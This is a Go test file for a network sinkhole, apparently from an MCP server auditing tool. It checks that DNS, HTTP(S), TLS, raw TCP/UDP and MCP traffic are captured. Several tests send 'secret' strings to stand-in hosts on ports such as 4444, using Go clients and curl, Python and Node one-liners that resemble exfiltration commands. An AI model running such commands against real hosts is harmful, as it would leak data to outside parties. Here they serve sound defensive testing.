package sinkhole_test

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"sync"
	"time"

	"github.com/mcpaudit/mcpaudit/runner/sinkhole"
)

// testServer is a sinkhole in the network namespace of the test, with all that came.
type testServer struct {
	server    *sinkhole.Server
	authority *sinkhole.Authority
	// file has the authority's certificate.
	file string

	taken chan struct{}
	mu    sync.Mutex
	came  []sinkhole.Capture
	// forgetful: it only counts the bytes that came.
	forgetful bool
	bytes     int64
}

// open closes the namespace and serves it.
func open(redirect bool) (*testServer, error) {
	if err := sinkhole.Close(); err != nil {
		return nil, err
	}
	if redirect {
		if err := sinkhole.Redirect(); err != nil {
			return nil, err
		}
	}
	authority, err := sinkhole.NewAuthority(nil)
	if err != nil {
		return nil, err
	}
	file, err := os.CreateTemp("", "authority-")
	if err != nil {
		return nil, err
	}
	if _, err := file.Write(authority.PEM()); err != nil {
		return nil, err
	}
	server, err := sinkhole.Serve(sinkhole.Config{Authority: authority, Absent: []string{"registry.example"}})
	if err != nil {
		return nil, err
	}
	h := &testServer{server: server, authority: authority, file: file.Name(), taken: make(chan struct{})}
	go func() {
		defer close(h.taken)
		for c := range server.Captures() {
			h.mu.Lock()
			h.bytes += int64(len(c.Data))
			if h.forgetful {
				c.Data = nil
			}
			h.came = append(h.came, c)
			h.mu.Unlock()
		}
	}()
	return h, file.Close()
}

// all ends the sinkhole and returns what came.
func (h *testServer) all() []sinkhole.Capture {
	h.server.Close()
	<-h.taken
	_ = os.Remove(h.file) // a temporary file more is no failure
	return h.came
}

// want describes a capture; an empty field is not compared.
type want struct {
	protocol, host, destination, request, data, hello string
	opaque                                            bool
}

// check wants one of the captures to be so.
func check(came []sinkhole.Capture, w want) error {
	for _, c := range came {
		if c.Protocol == w.protocol && c.Host == w.host && strings.Contains(c.Request, w.request) &&
			(w.destination == "" || c.Destination.String() == w.destination) &&
			strings.Contains(string(c.Data), w.data) && strings.Contains(c.Hello, w.hello) && c.Opaque == w.opaque && c.Lost() == 0 {
			return nil
		}
	}
	var have []string
	for _, c := range came {
		have = append(have, fmt.Sprintf("%s %s %s %q %q %v", c.Protocol, c.Host, c.Destination, c.Request, c.Data, c.Opaque))
	}
	return fmt.Errorf("no capture %+v in\n%s", w, strings.Join(have, "\n"))
}

// checkAll ends the sinkhole and wants a capture for each.
func (h *testServer) checkAll(wants ...want) error {
	came := h.all()
	var missing []error
	for _, w := range wants {
		missing = append(missing, check(came, w))
	}
	return errors.Join(missing...)
}

// checkWeb: what Go sends by HTTP and HTTPS, to names and to addresses.
func checkWeb() error {
	h, err := open(true)
	if err != nil {
		return err
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(h.authority.PEM())
	client := &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: pool}, ForceAttemptHTTP2: true,
	}}
	for _, url := range []string{
		"http://collect.example/a", "http://93.184.216.34:8081/b", "https://collect.example/c", "https://93.184.216.34/d", "https://collect.example:9443/e",
		"http://[2001:db8::7]:81/f",
	} {
		reply, err := client.Post(url, "text/plain", strings.NewReader("secret for "+url))
		if err != nil {
			return err
		}
		body, err := io.ReadAll(reply.Body)
		if err != nil || reply.StatusCode != http.StatusOK || !json.Valid(body) {
			return fmt.Errorf("post %s: %s %q, %w", url, reply.Status, body, err)
		}
	}
	return h.checkAll(
		want{protocol: "dns", host: "collect.example", request: "A collect.example"},
		want{protocol: "http", host: "collect.example", request: "POST /a HTTP/1.1", data: "secret for http://collect"},
		want{protocol: "http", destination: "93.184.216.34:8081", request: "POST /b HTTP/1.1", data: "secret for"},
		want{protocol: "https", host: "collect.example", request: "POST /c HTTP/2.0", data: "secret for", hello: `["h2" "http/1.1"]`},
		want{protocol: "https", destination: "93.184.216.34:443", request: "POST /d HTTP/2.0", data: "secret for"},
		want{protocol: "https", host: "collect.example", request: "POST /e HTTP/2.0", data: "secret for https://collect.example:9443/e"},
		want{protocol: "http", destination: "[2001:db8::7]:81", request: "POST /f HTTP/1.1", data: "secret for"},
	)
}

// checkRPC: a client of JSON-RPC gets its answers by their ids, and one of MCP a server without tools.
func checkRPC() error {
	h, err := open(true)
	if err != nil {
		return err
	}
	for sent, wanted := range map[string]string{
		`{"jsonrpc":"2.0","id":7,"method":"eth_blockNumber","params":[]}`:                            `"id":7,"jsonrpc":"2.0","result":`,
		`{"jsonrpc":"2.0","id":"a","method":"initialize","params":{"protocolVersion":"2025-03-26"}}`: `"protocolVersion":"2025-03-26"`,
		`{"jsonrpc":"2.0","id":2,"method":"tools/list"}`:                                             `"result":{"tools":[]}`,
		`{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"search","arguments":{}}}`:   `"type":"text"`,
		`{"jsonrpc":"2.0","method":"notifications/initialized"}`:                                     "",
	} {
		request, err := http.NewRequest(http.MethodPost, "http://tools.example/mcp", strings.NewReader(sent))
		if err != nil {
			return err
		}
		request.Header.Set("Accept", "application/json, text/event-stream")
		reply, err := http.DefaultClient.Do(request)
		if err != nil {
			return err
		}
		body, err := io.ReadAll(reply.Body)
		if err != nil || !strings.Contains(string(body), wanted) || (wanted == "") != (reply.StatusCode == http.StatusAccepted) {
			return fmt.Errorf("post %s: %s %q, %w", sent, reply.Status, body, err)
		}
	}
	asked := 0
	for _, c := range h.all() {
		if c.MCP() {
			asked++
		}
	}
	if asked != 1 {
		return fmt.Errorf("%d captures ask for a session", asked)
	}
	return nil
}

// checkRefused: a client that does not trust us shows the name that it means.
func checkRefused() error {
	h, err := open(true)
	if err != nil {
		return err
	}
	if _, err := http.Get("https://pinned.example/"); err == nil {
		return errors.New("a client trusted us unasked")
	}
	return h.checkAll(want{protocol: "tls", host: "pinned.example", request: "TLS handshake pinned.example", hello: "[", opaque: true})
}

// checkRaw: what is in no protocol that we know arrives all the same.
func checkRaw() error {
	h, err := open(true)
	if err != nil {
		return err
	}
	tcp, err := net.Dial("tcp", "93.184.216.34:4444")
	if err != nil {
		return err
	}
	udp, err := net.Dial("udp", "93.184.216.34:9999")
	if err != nil {
		return err
	}
	long := strings.Repeat("x", 40000)
	for _, c := range []net.Conn{tcp, udp} {
		if _, err := io.WriteString(c, "hello "+long+" secret"); err != nil {
			return err
		}
	}
	if err := tcp.Close(); err != nil {
		return err
	}
	came := h.all()
	data := map[string]string{}
	for _, c := range came {
		if int64(len(data[c.Protocol])) != c.Offset || c.Lost() != 0 {
			return fmt.Errorf("%s: a part at %d of %d, after %d", c.Protocol, c.Offset, c.Size, len(data[c.Protocol]))
		}
		data[c.Protocol] += string(c.Data)
	}
	for _, protocol := range []string{"tcp", "udp"} {
		if data[protocol] != "hello "+long+" secret" {
			return fmt.Errorf("%s: %d bytes arrived", protocol, len(data[protocol]))
		}
	}
	return errors.Join(
		check(came, want{protocol: "tcp", destination: "93.184.216.34:4444", request: "hello "}),
		check(came, want{protocol: "udp", destination: "93.184.216.34:0", request: "hello "}))
}

// checkFallback: without redirection the common ports are there still.
func checkFallback() error {
	h, err := open(false)
	if err != nil {
		return err
	}
	reply, err := http.Post("http://collect.example/a", "text/plain", strings.NewReader("secret"))
	if err != nil {
		return err
	}
	if err := reply.Body.Close(); err != nil {
		return err
	}
	if notes := h.server.Notes(); len(notes) != 1 || !strings.Contains(notes[0], "common ports") {
		return fmt.Errorf("notes %q", notes)
	}
	return h.checkAll(want{protocol: "http", host: "collect.example", request: "POST /a", data: "secret"})
}

// shell runs a script that finds the authority by its environment.
func (h *testServer) shell(script string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "sh", "-c", script)
	cmd.Env = append(os.Environ(), sinkhole.Environment(h.file)...)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// checkPrograms: those of others trust us by their environment.
func checkPrograms() error {
	h, err := open(true)
	if err != nil {
		return err
	}
	scripts := map[string]string{
		"curl":     `curl -sSf -d "secret of curl" https://curl.example/x && curl -sSf -d "secret of curl" https://93.184.216.34/x`,
		"urllib":   `python3 -c 'import urllib.request as u; [u.urlopen(h + "/x", b"secret of urllib").read() for h in ("https://urllib.example", "https://93.184.216.34")]'`,
		"requests": `python3 -c 'import requests as r; [r.post(h + "/x", "secret of requests").json() for h in ("https://requests.example", "https://93.184.216.34")]'`,
		"fetch":    `node -e 'Promise.all(["https://fetch.example", "https://93.184.216.34"].map(h => fetch(h + "/x", {method: "POST", body: "secret of fetch"}).then(r => r.json())))'`,
		"https":    `node -e 'for (const h of ["https.example", "93.184.216.34"]) require("https").request({host: h, path: "/x", method: "POST"}, r => r.resume()).end("secret of https")'`,
	}
	var wants []want
	for name, script := range scripts {
		program := strings.Fields(script)[0]
		if _, err := exec.LookPath(program); err != nil {
			fmt.Println("skipped: no", program)
			continue
		}
		if name == "requests" && exec.Command("python3", "-c", "import requests").Run() != nil {
			fmt.Println("skipped: Python has no requests")
			continue
		}
		if out, err := h.shell(script); err != nil {
			return fmt.Errorf("%s: %w: %s", name, err, out)
		}
		secret := "secret of " + name
		wants = append(wants, want{protocol: "https", host: name + ".example", request: "POST /x HTTP/", data: secret},
			want{protocol: "https", destination: "93.184.216.34:443", request: "POST /x HTTP/", data: secret})
	}
	return h.checkAll(wants...)
}
